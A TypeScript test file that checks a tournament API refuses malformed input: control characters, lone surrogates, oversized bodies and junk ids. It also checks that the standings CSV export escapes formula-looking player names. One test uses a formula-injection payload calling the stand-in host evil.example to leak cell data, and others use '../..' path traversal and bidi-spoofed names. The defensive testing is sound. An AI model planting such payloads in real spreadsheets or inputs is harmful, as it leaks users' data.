/**
 * Bad input through the real route handlers: each case from the security review answers 4xx
 * naming the field (never 500), and nothing is written.
 */
import { describe, expect, it } from "vitest";
import { POST as signup } from "@/app/api/v1/auth/signup/route";
import { POST as createEvent } from "@/app/api/v1/events/route";
import { PATCH as patchEvent } from "@/app/api/v1/events/[eventId]/route";
import { POST as addPlayers } from "@/app/api/v1/events/[eventId]/players/route";
import { PUT as putDeckLists } from "@/app/api/v1/events/[eventId]/players/[playerId]/decklists/route";
import { DELETE as deleteRound } from "@/app/api/v1/events/[eventId]/rounds/[number]/route";
import { POST as timer } from "@/app/api/v1/events/[eventId]/rounds/[number]/timer/route";
import { PUT as putResult } from "@/app/api/v1/events/[eventId]/matches/[matchId]/result/route";
import { GET as standingsCsv } from "@/app/events/[eventId]/standings.csv/route";
import { getDb } from "@/lib/db";
import { createApiToken } from "@/lib/server/accounts/accounts";
import { pairNextRound } from "@/lib/server/rounds/rounds";
import { registerPlayers } from "@/lib/server/entrants/players";
import { localToIso } from "@/lib/web/datetime";
import { ServiceError } from "@/lib/server/kernel/errors";
import { newUser, uniqueEmail } from "../helpers";
import { auditCount, eventWith } from "../server/event-helpers";

const call = (method: string, body: unknown, token: string | null, headers: Record<string, string> = {}) =>
  new Request("http://test.local/api", {
    method,
    headers: { "content-type": "application/json", ...(token ? { authorization: `Bearer ${token}` } : {}), ...headers },
    body: typeof body === "string" ? body : JSON.stringify(body),
  });
const ctx = <P extends Record<string, string>>(params: P) => ({ params: Promise.resolve(params) });
type ErrorBody = { error: { code: string; message: string; issues?: { path: (string | number)[]; message: string }[] } };

async function refused(res: Response, status: number, path?: (string | number)[]) {
  const body = (await res.json()) as ErrorBody;
  expect(res.status, JSON.stringify(body)).toBe(status);
  if (path) expect(body.error.issues?.map((i) => i.path)).toContainEqual(path);
  return body.error;
}

async function organizerEvent(players = 4) {
  const fixture = await eventWith(players, { swissRounds: 2, cutSize: 0 });
  const db = await getDb();
  const snapshot = async () =>
    JSON.stringify(await Promise.all([db.event.findUnique({ where: { id: fixture.eventId } }), db.player.findMany({ where: { eventId: fixture.eventId }, orderBy: { id: "asc" } }), auditCount(fixture.eventId)]));
  return { ...fixture, token: await createApiToken(fixture.org.id), snapshot };
}

describe("text fields", () => {
  it("a NUL in a player name, event name, venue or description is a 400 naming the field; nothing is written", async () => {
    const { eventId, token, snapshot } = await organizerEvent();
    const before = await snapshot();
    const err = await refused(await addPlayers(call("POST", { name: "Kyle\u0000" }, token), ctx({ eventId })), 400, ["name"]);
    expect(err.message).toBe("name: Player name cannot contain control characters (such as NUL).");
    await refused(await addPlayers(call("POST", { players: [{ name: "Jan" }, { name: "\u0000" }] }, token), ctx({ eventId })), 400, ["players", 1, "name"]);
    await refused(await patchEvent(call("PATCH", { name: "Cup\u0000" }, token), ctx({ eventId })), 400, ["name"]);
    await refused(await patchEvent(call("PATCH", { venue: "Hall \u0000 B" }, token), ctx({ eventId })), 400, ["venue"]);
    await refused(await patchEvent(call("PATCH", { description: "Doors at 9\u0000" }, token), ctx({ eventId })), 400, ["description"]);
    await refused(await patchEvent(call("PATCH", { randomSeed: "seed\u0000" }, token), ctx({ eventId })), 400, ["randomSeed"]);
    expect(await snapshot()).toBe(before);
  });

  it("a lone surrogate in event, player or deck-list fields is a 400; nothing is written", async () => {
    const { eventId, players, token, snapshot } = await organizerEvent();
    const before = await snapshot();
    await refused(await addPlayers(call("POST", { name: "a\ud800b" }, token), ctx({ eventId })), 400, ["name"]);
    await refused(await patchEvent(call("PATCH", { name: "Cup \udc00" }, token), ctx({ eventId })), 400, ["name"]);
    const sets = Array.from({ length: 10 }, (_, i) => `Objective ${i + 1}`);
    const deck = { light: { affiliation: "Jedi", objectiveSets: sets }, dark: { affiliation: "Sith\ud800", objectiveSets: [...sets.slice(1), "x\udfff"] } };
    const err = await refused(await putDeckLists(call("PUT", deck, token), ctx({ eventId, playerId: players[0]!.id })), 400, ["dark", "affiliation"]);
    expect(err.issues?.map((i) => i.path)).toContainEqual(["dark", "objectiveSets", 9]);
    expect(await snapshot()).toBe(before);
    // Written through the real API the same way, a signup name cannot carry one either.
    await refused(await signup(call("POST", { email: uniqueEmail(), password: "a long test password", name: "\ud800" }, null), ctx({})), 400, ["name"]);
  });

  it("a name of only zero-width characters is refused; bidi overrides are stripped", async () => {
    const { eventId, token, snapshot } = await organizerEvent();
    const before = await snapshot();
    for (const name of ["\u200b\u200b\u200b", "\u200c\u200d", "\ufeff", "\u2060\u0301", "\u202e\u200b"]) {
      const err = await refused(await addPlayers(call("POST", { name }, token), ctx({ eventId })), 400, ["name"]);
      // U+FEFF is whitespace to JavaScript, so it trims away to "required".
      expect(err.message).toMatch(/^name: Player name (needs at least one visible character|is required)\.$/);
    }
    expect(await snapshot()).toBe(before);
    const res = await addPlayers(call("POST", { name: "\u202enimdA\u202c Kyle\u2066" }, token), ctx({ eventId }));
    expect(res.status).toBe(201);
    expect(((await res.json()) as { name: string }).name).toBe("nimdA Kyle");
  });
});

describe("numbers and path parameters", () => {
  it("a round number past the integer range on the timer route is a 400 on `number`", async () => {
    const { eventId, org, token, snapshot } = await organizerEvent();
    await pairNextRound(org, eventId);
    const before = await snapshot();
    for (const number of ["2147483648", "1e20", "99999999999999999999", "-1", "0", "1.5", "NaN", " 1"]) {
      await refused(await timer(call("POST", { action: "start" }, token), ctx({ eventId, number })), 400, ["number"]);
      await refused(await deleteRound(call("DELETE", "", token), ctx({ eventId, number })), 400, ["number"]);
    }
    await refused(await timer(call("POST", { action: "extend", table: 2147483648, minutes: 5 }, token), ctx({ eventId, number: "1" })), 400, ["table"]);
    await refused(await timer(call("POST", { action: "start", minutes: 1e20 }, token), ctx({ eventId, number: "1" })), 400, ["minutes"]);
    expect(await snapshot()).toBe(before);
    expect((await timer(call("POST", { action: "start" }, token), ctx({ eventId, number: "1" }))).status).toBe(200);
  });

  it("expectedVersion past the integer range is a 400", async () => {
    const { eventId, org, token } = await organizerEvent();
    const round = await pairNextRound(org, eventId);
    const matchId = round.matches.find((m) => m.playerB)!.id;
    const body = { games: [{ result: "A" }, { result: "A" }], expectedVersion: 2147483648 };
    await refused(await putResult(call("PUT", body, token), ctx({ eventId, matchId })), 400, ["expectedVersion"]);
  });

  it("a NUL, a lone surrogate or junk as an id is a 404 before any query", async () => {
    const { eventId, token, snapshot } = await organizerEvent();
    const before = await snapshot();
    for (const bad of ["\u0000", "a\u0000b", "\ud800", "%E0%A4%A", "x".repeat(65), "../.."]) {
      expect((await refused(await addPlayers(call("POST", { name: "Kyle" }, token), ctx({ eventId: bad })), 404)).message).toBe("Event not found.");
      expect((await refused(await putResult(call("PUT", { intentionalSplit: true }, token), ctx({ eventId, matchId: bad })), 404)).message).toBe("Match not found.");
    }
    expect((await standingsCsv(new Request("http://test.local"), ctx({ eventId: "\u0000" }))).status).toBe(404);
    expect(await snapshot()).toBe(before);
  });
});

describe("request bodies", () => {
  it("a body over 1 MB is a 413, by Content-Length or by the bytes actually sent", async () => {
    const { eventId, token, snapshot } = await organizerEvent();
    const before = await snapshot();
    const big = JSON.stringify({ name: "x".repeat(1024 * 1024) });
    const err = await refused(await addPlayers(call("POST", big, token), ctx({ eventId })), 413);
    expect(err).toMatchObject({ code: "payload_too_large", message: "The request body can be at most 1048576 bytes." });
    await refused(await addPlayers(call("POST", { name: "Kyle" }, token, { "content-length": "5000000" }), ctx({ eventId })), 413);
    // A stream without Content-Length is cut off once it passes the cap.
    const chunk = new TextEncoder().encode("x".repeat(64 * 1024));
    let sent = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent++ < 40) controller.enqueue(chunk);
        else controller.close();
      },
    });
    const streamed = new Request("http://test.local/api", { method: "POST", headers: { "content-type": "application/json", authorization: `Bearer ${token}` }, body: stream, duplex: "half" } as RequestInit);
    await refused(await addPlayers(streamed, ctx({ eventId })), 413);
    expect(sent).toBeLessThan(40);
    expect(await snapshot()).toBe(before);
  });

  it("a body that is not sent as JSON is a 415; bytes that are not UTF-8 are a 400", async () => {
    const { eventId, token, snapshot } = await organizerEvent();
    const before = await snapshot();
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"]) {
      const err = await refused(await addPlayers(call("POST", { name: "Kyle" }, token, { "content-type": type }), ctx({ eventId })), 415);
      expect(err.code).toBe("unsupported_media_type");
    }
    const noType = new Request("http://test.local/api", { method: "POST", headers: { authorization: `Bearer ${token}` }, body: new Uint8Array(new TextEncoder().encode('{"name":"Kyle"}')) });
    await refused(await addPlayers(noType, ctx({ eventId })), 415);
    const latin1 = new Request("http://test.local/api", { method: "POST", headers: { "content-type": "application/json", authorization: `Bearer ${token}` }, body: new Uint8Array([0x7b, 0x22, 0x6e, 0x61, 0x6d, 0x65, 0x22, 0x3a, 0x22, 0xe9, 0x22, 0x7d]) });
    expect((await refused(await addPlayers(latin1, ctx({ eventId })), 400)).message).toBe("The request body is not valid UTF-8.");
    expect(await snapshot()).toBe(before);
    expect((await addPlayers(call("POST", { name: "Kyle" }, token, { "content-type": "application/json; charset=utf-8" }), ctx({ eventId }))).status).toBe(201);
  });

  it("the error codes are documented in OpenAPI", async () => {
    const { openApiDocument } = await import("@/lib/api/openapi");
    const doc = openApiDocument() as unknown as { paths: Record<string, Record<string, { responses: Record<string, unknown> }>>; components: { schemas: { Error: unknown } } };
    expect(Object.keys(doc.paths["/events/{eventId}/players"]!.post!.responses)).toEqual(expect.arrayContaining(["400", "413", "415"]));
    expect(Object.keys(doc.paths["/events/{eventId}/rounds/{number}/timer"]!.post!.responses)).toContain("400");
    expect(JSON.stringify(doc.components.schemas.Error)).toContain("payload_too_large");
  });
});

describe("standings.csv", () => {
  it("writes a formula-looking name as text, not a formula", async () => {
    const { eventId, org } = await organizerEvent(3);
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    await registerPlayers(org, eventId, { players: [{ name: evil }, { name: "@SUM(A1:A9)" }, { name: "-2+3" }, { name: "+cmd" }] });
    const res = await standingsCsv(new Request("http://test.local"), ctx({ eventId }));
    expect(res.status).toBe(200);
    const csv = await res.text();
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv).toContain(",'@SUM(A1:A9),");
    expect(csv).toContain(",'-2+3,");
    expect(csv).toContain(",'+cmd,");
    // No cell of the file begins with a formula character any more.
    const cells = csv.trim().split("\r\n").flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,]*)/g) ?? []);
    expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});

describe("form time zone offset", () => {
  it("an offset that is not a real one (1e400, 1.5, 100000) is refused beside the start time", () => {
    for (const offset of ["1e400", "Infinity", "NaN", "1.5", "100000", "-841"]) {
      let thrown: unknown;
      try {
        localToIso("2026-05-01T10:00", offset);
      } catch (err) {
        thrown = err;
      }
      expect(thrown, offset).toBeInstanceOf(ServiceError);
      expect((thrown as ServiceError).issues[0]?.path).toEqual(["startsAtLocal"]);
    }
    expect(localToIso("2026-05-01T10:00", "-120")).toBe("2026-05-01T08:00:00.000Z");
    expect(localToIso("2026-05-01T10:00", "")).toBe("2026-05-01T10:00:00.000Z");
  });
});

describe("event creation", () => {
  it("refuses NUL, surrogates and out-of-range numbers in a new event", async () => {
    const token = await createApiToken((await newUser()).id);
    const base = { name: "Cup", structure: "custom", tier: "relaxed", swissRounds: 3, cutSize: 0 };
    await refused(await createEvent(call("POST", { ...base, name: "Cup\u0000" }, token), ctx({})), 400, ["name"]);
    await refused(await createEvent(call("POST", { ...base, swissMinutes: 2147483648 }, token), ctx({})), 400, ["swissMinutes"]);
    await refused(await createEvent(call("POST", { ...base, description: "\ud800" }, token), ctx({})), 400, ["description"]);
  });
});

describe("reads", () => {
  it("a round number that cannot be a round is not found when read (the pairings page's ?round=)", async () => {
    const { getRound } = await import("@/lib/server/rounds/rounds");
    const { eventId, org } = await organizerEvent();
    await pairNextRound(org, eventId);
    for (const n of [1e20, 1.5, Number.NaN, 2147483648]) await expect(getRound(eventId, n)).rejects.toMatchObject({ code: "not_found" });
    await expect(getRound(eventId, 1)).resolves.toMatchObject({ number: 1 });
  });
});
